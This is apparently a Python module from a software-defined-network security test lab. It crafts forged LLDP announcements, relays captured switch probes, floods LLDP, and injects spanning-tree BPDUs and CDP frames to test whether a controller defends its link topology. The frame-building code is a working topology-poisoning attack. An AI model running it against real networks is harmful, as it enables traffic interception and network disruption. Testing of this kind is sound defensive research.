"""LLDP: what hosts say about links is no link, and hosts are told nothing about links."""

from __future__ import annotations

import struct
import time

from scapy.packet import Raw

from attack.evidence import everything
from attack.frames import BROADCAST, ether
from attack.scenario import ATTACKS, Group
from attack.trial import Trial
from lab.errors import LabError

group = Group("lldp", ATTACKS)
_ETHERTYPE = 0x88CC
_GROUPS = ("01:80:c2:00:00:0e", "01:80:c2:00:00:03", "01:80:c2:00:00:00")
_FLOOD = 500
_OLD = 2.5
"""Seconds after which a probe is too old to be believed by anybody."""


def _tlv(kind: int, value: bytes) -> bytes:
    """A type-length-value of IEEE 802.1AB §8.4."""
    return struct.pack("!H", kind << 9 | len(value)) + value


def _announcement(dpid: int, port: int, token: bytes) -> bytes:
    """As controllers write it: the switch in the chassis id, the port's number; the mark as system name."""
    chassis = _tlv(1, b"\x07dpid:" + f"{dpid:016x}".encode())
    return (
        chassis
        + _tlv(2, b"\x02" + struct.pack("!I", port))
        + _tlv(3, struct.pack("!H", 120))
        + _tlv(5, token)
        + b"\0\0"
    )


class _Watch:
    """What the controller knows of links before an attack, to be compared with what it does afterwards."""

    def __init__(self, trial: Trial) -> None:
        self._trial = trial
        self._since = trial.arena.log_size()
        self._links = trial.arena.links()

    def note(self) -> None:
        """Note whether the controller believes in other links now, and whether it has raised an alarm."""
        trial, arena = self._trial, self._trial.arena
        if arena.protected:
            arena.settle()
            trial.note("links", arena.links_believed(self._links))
            trial.note("alarm", arena.alarm(self._since, "lldp-on-edge"))


@group.scenario(
    "lldp-injection",
    reference="Hong et al., Poisoning Network Visibility (NDSS 2015)",
    tried="LLDP in the name of every switch, to its groups, to everybody and to a host",
    success="a host receives it, the controller believes in other links, or it raises no alarm",
    covers=("lldp-injection",),
    judge=everything,
    quick=True,
)
def injection(trial: Trial) -> None:
    """TopoGuard's first attack."""
    watch = _Watch(trial)
    for attacker in trial.attackers:
        for switch in trial.arena.network.network.switches.values():
            for dst in (*_GROUPS[:2], BROADCAST, trial.mac(trial.cast.victim)):
                token = trial.mark(attacker, f"{switch.name} to {dst} by {attacker}")
                body = Raw(_announcement(switch.dpid, 1, token))
                trial.send(attacker, [ether(trial.mac(attacker), dst, type=_ETHERTYPE) / body])
    watch.note()


@group.scenario(
    "lldp-relay",
    reference="Hong et al. (NDSS 2015); Marin et al., Topology Attacks (2019)",
    tried="probes taken from the cables between switches, sent from hosts at once and when old; forged ones",
    success="a host receives LLDP, the controller believes in other links, or it raises no alarm",
    covers=("lldp-relay",),
    judge=everything,
)
def relay(trial: Trial) -> None:
    """Two hosts pretend to be a cable. The probes are true ones, such as no host is ever sent."""
    arena = trial.arena
    _forged(trial)
    if arena.protected and arena.network.network.links:
        _real(trial)
        heard = [name for name in arena.network.hosts if any(map(is_lldp, arena.tap(name).peek()))]
        trial.note("heard by hosts", f"LLDP at {', '.join(heard)}" if heard else "")


def _forged(trial: Trial) -> None:
    watch = _Watch(trial)
    for attacker in trial.attackers:
        token = trial.mark(attacker, f"relayed by {attacker}")
        frames = [
            bytes(ether(trial.mac(attacker), dst, type=_ETHERTYPE)) + _announcement(1, 2, token) for dst in _GROUPS[:2]
        ]
        trial.send(attacker, frames)
    watch.note()


def _real(trial: Trial) -> None:
    """Raises LabError if no cable between switches carries a probe."""
    arena = trial.arena
    seen = sum(map(is_lldp, arena.fabric_frames()))
    fresh = arena.await_fabric_frames(is_lldp, beyond=seen)
    if not fresh:
        raise LabError("no cable between switches carries a probe")
    for label, wait in (("fresh probes", 0.0), ("old probes", _OLD)):
        time.sleep(wait)
        since, links, before = arena.log_size(), arena.links(), arena.counters().get("probes_relayed", 0.0)
        for attacker in trial.attackers:
            trial.mark(attacker, f"{label} by {attacker}", token=fresh[0][14:])
            trial.send(attacker, fresh)
        arena.settle()
        known = arena.counters().get("probes_relayed", 0.0) - before
        trial.note(f"{label}: links", arena.links_believed(links))
        trial.note(f"{label}: alarm", arena.alarm(since, "lldp-on-edge") or arena.alarm(since, "probe-on-edge"))
        trial.note(f"{label}: recognised", "" if known else "the controller does not see that they are its own")


def is_lldp(frame: bytes) -> bool:
    """Whether a frame is LLDP, tagged or not."""
    kind = frame[16:18] if frame[12:14] == b"\x81\x00" else frame[12:14]
    return kind == b"\x88\xcc"


@group.scenario(
    "lldp-flood",
    reference="Dhawan et al., SPHINX (NDSS 2015)",
    tried=f"{_FLOOD} frames of LLDP from each attacker, at once",
    success="a host receives one, the controller believes in other links or raises no alarm; others suffer",
    covers=("lldp-flood",),
    judge=everything,
)
def flood(trial: Trial) -> None:
    """More than any switch would send."""
    watch = _Watch(trial)
    for attacker in trial.attackers:
        token = trial.mark(attacker, f"by {attacker}")
        frames = [
            bytes(ether(trial.mac(attacker), _GROUPS[0], type=_ETHERTYPE)) + _announcement(number, number, token)
            for number in range(_FLOOD)
        ]
        trial.send(attacker, frames)
    watch.note()


@group.scenario(
    "spanning-tree",
    reference="IEEE 802.1D; yersinia",
    tried="BPDUs of a root bridge with the best priority, topology changes, Cisco's CDP, VTP and DTP",
    success="a host receives them",
    covers=("lldp-injection", "llc"),
)
def spanning_tree(trial: Trial) -> None:
    """Whoever becomes the root has all traffic; to other addresses than the reserved one as well."""
    bpdu = bytes.fromhex("424203" + "0000" + "02" + "02" + "7c") + bytes(2) + b"\x02" + bytes(27)
    cisco = bytes.fromhex("aaaa03" + "00000c" + "2000") + bytes(20)
    for attacker in trial.attackers:
        for label, body, dst in (
            ("BPDU to all", bpdu, BROADCAST),
            ("BPDU to a host", bpdu, trial.mac(trial.cast.victim)),
            ("CDP", cisco, "01:00:0c:cc:cc:cc"),
        ):
            token = trial.mark(attacker, f"{label} by {attacker}")
            head = bytes.fromhex((dst + trial.mac(attacker)).replace(":", "")) + struct.pack(
                "!H", len(body) + len(token)
            )
            trial.send(attacker, [head + body + token])
